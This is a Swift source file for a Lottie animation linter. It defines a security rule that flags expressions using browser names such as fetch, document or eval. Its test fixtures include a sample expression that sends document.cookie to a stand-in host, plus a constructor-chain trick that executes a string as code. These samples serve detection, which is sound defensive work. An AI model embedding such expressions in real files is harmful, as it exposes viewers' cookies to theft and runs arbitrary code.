internal import PegbarDiagnostics
internal import PegbarLottie

extension Rule {
  /// An expression uses what no animation needs.
  static let expressionSuspicious = Rule(
    .rule(
      "sec/expression-suspicious", .error,
      Words(
        title: "An expression does more than animate",
        meaning: """
          The expression uses a name that After Effects does not have, but browsers do: for the \
          page, for the network, or to run text as code.
          """,
        effect: "It may read what the page shows and send it elsewhere.",
        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
    found: [
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "[]['constructor']['constructor']('return 1')()"}}"#),
    ],
    silent: [
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var $bm_rt; $bm_rt = time * 90;"}}"#),
      // Names of its own, members, texts and comments.
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var window = 5; window * time"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "thisComp.layer('fetch').document"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "// eval it\n/* window */ time"}}"#),
    ],
    check: .several([
      .property { property, run in
        guard let expression = property.expression else { return }
        run.reportSuspicious(expression, at: property.source)
      },
      .text { text, run in
        for selector in text.animators.lazy.flatMap(\.selectors) {
          guard let expression = selector.expression else { continue }
          run.reportSuspicious(expression, at: selector.source)
        }
      },
    ]))
}

extension RuleRun {
  fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
    var words = ScriptWords(expression)
    guard let word = words.firstSuspicious() else { return }
    report("the expression uses '\(word)', which no animation needs", at: source)
  }
}
